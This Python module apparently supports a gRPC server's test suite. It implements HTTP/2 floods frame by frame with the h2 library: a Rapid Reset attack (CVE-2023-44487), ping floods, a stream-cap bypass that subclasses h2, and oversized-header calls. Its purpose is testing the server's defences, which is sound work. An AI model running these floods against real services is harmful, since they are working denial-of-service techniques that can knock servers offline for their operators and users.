"""Raw HTTP/2 floods against a gRPC server, for http2_flood_test.py.

h2 (PyPI, pinned in tools/python_test_requirements.txt) speaks HTTP/2 frame
by frame, where a gRPC client would refuse to misbehave. Each flood is a
thread with its own connections; when the server ends a connection (GOAWAY,
a closed socket) the flood records why and dials again, until it has sent
its quota. Nothing here waits for a time: quotas are counts.
"""

import queue
import socket
import struct
import threading

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import h2.settings

# How long a flood waits for the server's answer where one must come (a
# GOAWAY after too many pings, a refused stream). A bound against a hang, far
# above any answer time, not a measurement.
ANSWER_WAIT_S = 300


def grpc_message(body=b""):
    """`body` (a serialized request) in gRPC's length-prefixed framing."""
    return struct.pack(">BI", 0, len(body)) + body


class _IgnoresStreamCap(h2.connection.H2Connection):
    """Opens streams past the server's SETTINGS_MAX_CONCURRENT_STREAMS, which
    h2 would refuse to do: the client that breaks the limit."""

    @property
    def open_outbound_streams(self):
        return 0


class Link:
    """One HTTP/2 connection. A thread drains the socket into a queue, so the
    server's writes never stall on us; the bytes are fed to h2 on the
    flooding thread (h2 is not thread-safe)."""

    def __init__(self, address, ignore_stream_cap=False):
        host, port = address.rsplit(":", 1)
        self.address = address
        self.sock = socket.create_connection((host, int(port)), timeout=ANSWER_WAIT_S)
        kind = _IgnoresStreamCap if ignore_stream_cap else h2.connection.H2Connection
        self.h2 = kind(config=h2.config.H2Configuration(client_side=True,
                                                         header_encoding="utf-8"))
        self.inbox = queue.Queue()
        self.goaway = None    # (error code name, debug data) of the server's GOAWAY
        self.broken = False   # a write failed: nothing more can be sent
        self.ended = False    # the server closed the connection (or broke HTTP/2)
        self.events = []      # every h2 event, for the floods that look at answers
        threading.Thread(target=self._drain, daemon=True).start()
        self.h2.initiate_connection()
        self.send()

    def _drain(self):
        try:
            while True:
                data = self.sock.recv(65536)
                if not data:
                    break
                self.inbox.put(data)
        except OSError:
            pass
        self.inbox.put(None)

    def headers(self, path, extra=()):
        return [(":method", "POST"), (":scheme", "http"), (":path", path),
                (":authority", self.address), ("content-type", "application/grpc"),
                ("te", "trailers")] + list(extra)

    def send(self):
        """Writes what h2 has queued; False once the connection is over."""
        data = self.h2.data_to_send()
        if data and not self.broken:
            try:
                self.sock.sendall(data)
            except OSError:
                self.broken = True
        return self.usable()

    def usable(self):
        return not (self.broken or self.ended or self.goaway)

    def poll(self, block=False):
        """Feeds what the server sent so far to h2 (with block, waits for the
        next bytes first); False once the connection is over. What arrived
        is read even after a failed write: the GOAWAY that explains it."""
        while not self.ended:
            try:
                data = self.inbox.get(block=block, timeout=ANSWER_WAIT_S if block else None)
            except queue.Empty:
                if block:
                    raise TimeoutError("no answer from the server in %d s" % ANSWER_WAIT_S)
                break
            block = False
            if data is None:
                self.ended = True
                break
            try:
                events = self.h2.receive_data(data)
            except h2.exceptions.ProtocolError:
                self.ended = True
                break
            self.events.extend(events)
            for ev in events:
                if isinstance(ev, h2.events.ConnectionTerminated):
                    self.goaway = (h2.errors.ErrorCodes(ev.error_code).name,
                                   (ev.additional_data or b"").decode("latin-1"))
            self.send()  # the acks h2 queued (SETTINGS, PING)
        return self.usable()

    def wait_until_closed(self):
        """Reads until the server closes the connection."""
        while not self.ended:
            self.poll(block=True)

    def close(self):
        self.broken = True
        try:
            self.sock.close()
        except OSError:
            pass


class Flood(threading.Thread):
    """A flood of `quota` units over as many connections as it takes. `sent`
    counts the units sent, `connections` the connections dialled, `goaways`
    the GOAWAYs received (code, debug data); `error` is what broke the flood
    itself (None when it ran to its quota)."""

    def __init__(self, address, quota):
        super().__init__(daemon=True)
        self.address = address
        self.quota = quota
        self.sent = 0
        self.connections = 0
        self.goaways = []
        self.error = None

    def run(self):
        try:
            while self.sent < self.quota:
                link = self.dial()
                self.connections += 1
                try:
                    self.flood(link)
                except (OSError, h2.exceptions.ProtocolError):
                    pass  # the server ended the connection under us: dial again
                finally:
                    if link.goaway:
                        self.goaways.append(link.goaway)
                    link.close()
        except Exception as e:  # noqa: BLE001 (reported by the test)
            self.error = "%s: %r" % (type(self).__name__, e)

    def dial(self):
        return Link(self.address)

    def flood(self, link):
        raise NotImplementedError


class RapidReset(Flood):
    """CVE-2023-44487: HEADERS, the request, RST_STREAM(CANCEL), again and
    again, `batch` streams per write so that the server reads each stream's
    opening and its reset together. Never more than one stream open."""

    def __init__(self, address, quota, path, body, batch=16):
        super().__init__(address, quota)
        self.path, self.message, self.batch = path, grpc_message(body), batch

    def flood(self, link):
        while self.sent < self.quota and link.poll():
            for _ in range(min(self.batch, self.quota - self.sent)):
                sid = link.h2.get_next_available_stream_id()
                link.h2.send_headers(sid, link.headers(self.path))
                if link.h2.local_flow_control_window(sid) >= len(self.message):
                    link.h2.send_data(sid, self.message, end_stream=True)
                link.h2.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
                self.sent += 1
            if not link.send():
                return


class PingFlood(Flood):
    """Rounds of `per_round` PING frames with no call open, one connection
    each (the quota counts rounds), written at once so that the server reads
    them together. The keepalive policy answers with GOAWAY(ENHANCE_YOUR_CALM,
    "too_many_pings") and closes the connection; each round waits for the
    close. A write still unread when the server closes would make the close
    a reset that can discard the GOAWAY before it is read: one write per
    round keeps that rare. `pings` counts the pings sent, `unanswered` the
    rounds the server did not close."""

    def __init__(self, address, rounds, per_round=16):
        super().__init__(address, rounds)
        self.per_round = per_round
        self.pings = 0
        self.unanswered = 0

    def flood(self, link):
        link.poll()
        for _ in range(self.per_round):
            link.h2.ping(struct.pack(">Q", self.pings))
            self.pings += 1
        link.send()
        self.sent += 1
        try:
            link.wait_until_closed()
        except TimeoutError:
            self.unanswered += 1


class TooManyStreams(Flood):
    """Opens `per_round` streams at once on one connection, ignoring the
    server's cap, each left open (HEADERS without END_STREAM), then drops
    the connection and dials again. `refused_streams` counts the streams the
    server reset before the drop (how many depends on how far the server
    read, so it is reported, not asserted)."""

    def __init__(self, address, quota, path, per_round):
        super().__init__(address, quota)
        self.path, self.per_round = path, per_round
        self.refused_streams = 0

    def dial(self):
        return Link(self.address, ignore_stream_cap=True)

    def flood(self, link):
        link.poll()
        for _ in range(min(self.per_round, self.quota - self.sent)):
            sid = link.h2.get_next_available_stream_id()
            link.h2.send_headers(sid, link.headers(self.path))
            self.sent += 1
        link.send()
        link.poll()
        self.refused_streams += sum(isinstance(e, h2.events.StreamReset) for e in link.events)


class BigHeaders(Flood):
    """Calls whose header list is `pad_bytes` of padding; each waits for the
    server's answer. `answers` holds, per call, "reset" (RST_STREAM),
    "closed" (the connection ended) or the grpc-status the server sent.
    (gRPC 1.51 drops the headers past its metadata limit, logs it, and may
    serve the call without them: what it bounds is the memory.)"""

    def __init__(self, address, quota, path, pad_bytes):
        super().__init__(address, quota)
        self.path, self.pad = path, "x" * pad_bytes
        self.answers = []

    def flood(self, link):
        while self.sent < self.quota:
            link.poll()
            sid = link.h2.get_next_available_stream_id()
            link.h2.send_headers(sid, link.headers(self.path, [("x-pad", self.pad)]))
            link.h2.send_data(sid, grpc_message(), end_stream=True)
            self.sent += 1
            if not link.send():
                self.answers.append("closed")
                return
            answer = None
            while answer is None:
                if not link.poll(block=True):
                    answer = "closed"
                    break
                for e in link.events:
                    if getattr(e, "stream_id", None) != sid:
                        continue
                    if isinstance(e, h2.events.StreamReset):
                        answer = "reset"
                    elif isinstance(e, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
                        status = dict(e.headers).get("grpc-status")
                        if status is not None:
                            answer = "grpc-status " + status
            link.events.clear()
            self.answers.append(answer)
            if answer == "closed":
                return


def _setting_name(code):
    """h2's name of a SETTINGS code; gRPC's own (0xFE03, true binary
    metadata) as a number."""
    try:
        return h2.settings.SettingCodes(code).name
    except ValueError:
        return code


def server_settings(address):
    """The SETTINGS the server sends a new connection, by h2's SettingCodes
    name (MAX_CONCURRENT_STREAMS, MAX_HEADER_LIST_SIZE, ...)."""
    link = Link(address)
    try:
        while True:
            link.poll(block=True)
            if link.ended:
                raise ConnectionError("the server closed the connection before its SETTINGS")
            for e in link.events:
                if isinstance(e, h2.events.RemoteSettingsChanged):
                    return {_setting_name(k): v.new_value
                            for k, v in e.changed_settings.items()}
    finally:
        link.close()


def idle_until_closed(address):
    """Opens a connection, makes no call, and waits until the server closes
    it; the server's GOAWAY (code name, debug data), or None."""
    link = Link(address)
    try:
        link.wait_until_closed()
        return link.goaway
    finally:
        link.close()
